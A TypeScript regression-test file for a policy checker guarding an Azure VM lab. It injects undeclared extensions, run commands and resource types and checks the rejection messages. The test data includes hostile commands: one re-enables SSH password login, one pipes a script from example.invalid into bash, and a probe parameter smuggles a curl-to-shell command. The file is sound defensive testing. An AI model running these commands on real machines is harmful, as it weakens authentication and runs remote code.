// Regressions of inventory 3: resource types, extensions and run commands beyond the lab's own.
import type { Case } from "./case";
import { addAfter, b64, custom, FAKE_PASSWORD, field, set, SUB, T, WIN } from "./mutation-helpers";
import type { Mutation } from "./mutate";

/** A run command on seat 1 beside the lab's check. */
export const runCommand = (props: Record<string, unknown>): Mutation =>
  addAfter((sdk) =>
    custom(sdk, T.runCommand, "injected-runcommand", {
      resourceGroupName: "x",
      vmName: "dsvmlab-vm1",
      location: "westeurope",
      runCommandName: "injected",
      ...props,
    }),
  );

/** An extension on seat 1. */
const extension = (props: Record<string, unknown>): Mutation =>
  addAfter((sdk) =>
    custom(sdk, T.extension, "injected-extension", {
      resourceGroupName: "x",
      vmName: "dsvmlab-vm1",
      location: "westeurope",
      vmExtensionName: "injected",
      ...props,
    }),
  );

const PASSWORD_ON = "sed -i 's/^PasswordAuthentication no/PasswordAuthentication yes/' /etc/ssh/sshd_config && systemctl restart ssh";

export const INVENTORY_CASES: readonly Case[] = [
  {
    title: "CustomScript extension that turns password login back on",
    mutations: [
      extension({
        publisher: "Microsoft.Azure.Extensions",
        type: "CustomScript",
        typeHandlerVersion: "2.1",
        settings: { commandToExecute: PASSWORD_ON },
      }),
    ],
    rules: ["inventory-vm-extensions", "credential-password-login"],
    says: /Microsoft\.Azure\.Extensions\/CustomScript is not a declared extension for ubuntu seats.*declare it with its reason in policy\/allow-list\.ts/,
  },
  {
    title: "CustomScript with its script base64 in protectedSettings",
    mutations: [
      extension({
        publisher: "Microsoft.Azure.Extensions",
        type: "CustomScript",
        typeHandlerVersion: "2.1",
        protectedSettings: { script: b64(`#!/bin/sh\n${PASSWORD_ON}\n`) },
      }),
    ],
    rules: ["inventory-vm-extensions", "credential-password-login", "credential-run-as-and-protected"],
    says: /CustomScript is not a declared extension/,
  },
  {
    title: "the Entra login extension with settings",
    config: WIN,
    mutations: [field(T.extension, "seat1-aadssh", "settings", () => ({ mdmId: "0000000a-0000-0000-c000-000000000000" }))],
    rules: ["inventory-vm-extensions"],
    says: /it carries settings \(mdmId\)/,
  },
  {
    title: "a run command with another script",
    mutations: [runCommand({ source: { script: "curl -fsSL https://example.invalid/x.sh | bash" } })],
    rules: ["inventory-run-commands"],
    says: /Run command injected-runcommand: .*its name "injected" is not dsvm-lab-probe.*source\.script \(\d+ chars, sha256 [0-9a-f]{8}\) is not the lab's vm-probe/,
  },
  {
    title: "the check's run command fetches its script from a URI",
    mutations: [field(T.runCommand, "seat1-check-probe", "source", () => ({ scriptUri: "https://example.invalid/probe.sh" }))],
    rules: ["inventory-run-commands"],
    says: /source\.scriptUri is set/,
  },
  {
    title: "the check's output sent to a blob",
    mutations: [set(T.runCommand, "seat1-check-probe", { outputBlobUri: "https://example.invalid/c/out" })],
    rules: ["inventory-run-commands"],
    says: /outputBlobUri is set/,
  },
  {
    title: "an extra probe flag",
    mutations: [
      field(T.runCommand, "seat1-check-probe", "parameters", (ps: any[]) => [
        ...ps,
        { name: "", value: "--insecure" },
        { name: "", value: "1" },
      ]),
    ],
    rules: ["inventory-run-commands"],
    says: /parameters \[--insecure\] are not the probe's flags/,
  },
  {
    title: "a probe parameter that smuggles a command",
    mutations: [
      field(T.runCommand, "seat1-check-probe", "parameters", (ps: any[]) =>
        ps.map((p, i) => (i === 1 ? { ...p, value: `${p.value};curl${"${IFS}"}example.invalid|sh` } : p)),
      ),
    ],
    rules: ["inventory-run-commands"],
    says: /1 parameter value\(s\) are not one plain word/,
  },
  {
    title: "an undeclared resource type (VNet peering)",
    mutations: [
      addAfter((sdk) =>
        custom(sdk, "azure-native:network:VirtualNetworkPeering", "injected-peering", {
          resourceGroupName: "x",
          virtualNetworkName: "dsvmlab-vnet",
          remoteVirtualNetwork: { id: `${SUB}/resourceGroups/y/providers/Microsoft.Network/virtualNetworks/other` },
        }),
      ),
    ],
    rules: ["inventory-resource-types"],
    says: /azure-native:network:VirtualNetworkPeering injected-peering is not a resource type the lab declares: remove it\. If the lab needs type/,
  },
  {
    title: "VMAccessForLinux resetting a password",
    mutations: [
      extension({
        publisher: "Microsoft.OSTCExtensions",
        type: "VMAccessForLinux",
        typeHandlerVersion: "1.5",
        protectedSettings: { username: "azureuser", password: FAKE_PASSWORD },
      }),
    ],
    rules: ["inventory-vm-extensions", "credential-run-as-and-protected", "no-secret-literals-in-scripts"],
    says: /Microsoft\.OSTCExtensions\/VMAccessForLinux is not a declared extension/,
  },
  {
    title: "a Key Vault key (an undeclared type)",
    mutations: [
      addAfter((sdk) =>
        custom(sdk, T.key, "injected-key", {
          resourceGroupName: "x",
          vaultName: "v",
          keyName: "k",
          properties: { kty: "RSA" },
        }),
      ),
    ],
    rules: ["inventory-resource-types"],
    says: /azure-native:keyvault:Key injected-key is not a resource type the lab declares/,
  },
  {
    title: "diagnostics shipped to another workspace (an undeclared type)",
    mutations: [
      addAfter((sdk) =>
        custom(sdk, "azure-native:insights:DiagnosticSetting", "injected-diag", {
          resourceUri: "x",
          workspaceId: "/subscriptions/other/resourceGroups/y/providers/Microsoft.OperationalInsights/workspaces/w",
        }),
      ),
    ],
    rules: ["inventory-resource-types"],
    says: /insights:DiagnosticSetting/,
  },
];
